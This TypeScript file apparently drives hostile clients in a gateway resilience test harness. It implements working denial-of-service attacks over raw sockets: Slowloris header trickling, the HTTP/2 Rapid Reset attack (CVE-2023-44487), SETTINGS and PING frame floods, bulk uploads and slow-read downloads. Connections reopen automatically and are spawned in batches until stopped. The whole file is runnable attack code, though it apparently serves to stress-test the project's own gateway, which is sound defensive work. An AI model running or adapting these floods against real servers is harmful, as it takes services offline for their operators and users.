import { connect, type Socket } from 'node:net';
import { takeOrders } from '../live/orders.js';
import type { Attack, Toll } from './attacker.js';

/*
 * Clients that mean harm. Each attack goes on until `stop`: a connection that the gateway ends is made again.
 */

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** HPACK, static table: GET, http, `/`; `:authority: a` as a literal. */
const getSection = Buffer.from([0x82, 0x86, 0x84, 0x41, 0x01, 0x61]);

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const settings = frame(4, 0, 0);
const ping = frame(6, 0, 0, Buffer.alloc(8, 'p'));
const cancel = Buffer.from([0, 0, 0, 8]);

const toll: Record<keyof Toll, number> = { opened: 0, ended: 0, sentBytes: 0, receivedBytes: 0, open: 0 };
const sockets = new Set<Socket>();
let isStopped = false;

/** `act` begins with each connection; another one takes the place of one that has ended. */
function keepOpen(attack: Attack, act: (socket: Socket) => void): void {
  const socket = connect({ host: attack.address, port: attack.port });
  sockets.add(socket);
  socket.on('error', () => undefined);
  socket.on('connect', () => {
    toll.opened++;
    toll.open++;
    socket.once('close', () => toll.open--);
    act(socket);
  });
  socket.on('close', () => {
    toll.ended++;
    toll.sentBytes += socket.bytesWritten;
    sockets.delete(socket);
    if (!isStopped) setTimeout(() => keepOpen(attack, act), 50);
  });
}

/** A head that never ends, a byte each second. */
function trickle(socket: Socket): void {
  const head = `GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ${'a'.repeat(1_000)}`;
  let at = 0;
  socket.resume();
  const timer = setInterval(() => socket.write(head[at++ % head.length]!), 1_000);
  socket.once('close', () => clearInterval(timer));
}

/** Writes what `next` gives as fast as the peer takes it. */
function flood(socket: Socket, next: () => Buffer): void {
  socket.resume();
  const more = (): void => {
    while (!socket.destroyed && !isStopped) if (!socket.write(next())) return;
  };
  socket.on('drain', more);
  socket.write(Buffer.concat([preface, settings]));
  more();
}

/** Streams that are asked for and reset in the same write, a hundred at a time (CVE-2023-44487). */
function rapidReset(socket: Socket): void {
  let stream = 1;
  flood(socket, () => {
    const frames: Buffer[] = [];
    for (let i = 0; i < 100; i++, stream += 2)
      frames.push(frame(1, 5, stream, getSection), frame(3, 0, stream, cancel));
    return Buffer.concat(frames);
  });
}

/** A request's body as fast as it is taken. */
function upload(socket: Socket, { path, size }: Attack): void {
  socket.resume();
  const block = Buffer.alloc(64 * 1024, 'u');
  socket.write(`POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: ${size}\r\n\r\n`);
  let left = size;
  const more = (): void => {
    while (left > 0 && !socket.destroyed) {
      const piece = block.subarray(0, Math.min(left, block.length));
      left -= piece.length;
      if (!socket.write(piece)) return;
    }
  };
  socket.on('drain', more);
  more();
}

/** A response that is read at `rate` bytes a second. */
function download(socket: Socket, { path, rate }: Attack): void {
  socket.write(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`);
  const everyMs = 50;
  const timer = setInterval(() => {
    const piece = socket.read((rate * everyMs) / 1_000) as Buffer | null;
    toll.receivedBytes += piece?.length ?? 0;
  }, everyMs);
  socket.once('close', () => clearInterval(timer));
}

const acts: Readonly<Record<Attack['kind'], (socket: Socket, attack: Attack) => void>> = {
  slowloris: trickle,
  'rapid-reset': rapidReset,
  settings: (socket) => flood(socket, () => Buffer.concat(Array<Buffer>(100).fill(settings))),
  ping: (socket) => flood(socket, () => Buffer.concat(Array<Buffer>(100).fill(ping))),
  upload,
  download,
};

takeOrders({
  start: (attack: Attack) => {
    isStopped = false;
    let left = attack.connections;
    const some = (): void => {
      for (let i = 0; i < 250 && left > 0 && !isStopped; i++, left--)
        keepOpen(attack, (socket) => acts[attack.kind](socket, attack));
      if (left > 0 && !isStopped) setTimeout(some, 10);
    };
    some();
  },
  toll: () => ({
    ...toll,
    sentBytes: [...sockets].reduce((sum, { bytesWritten }) => sum + bytesWritten, toll.sentBytes),
  }),
  stop: () => {
    isStopped = true;
    for (const socket of sockets) socket.destroy();
  },
});
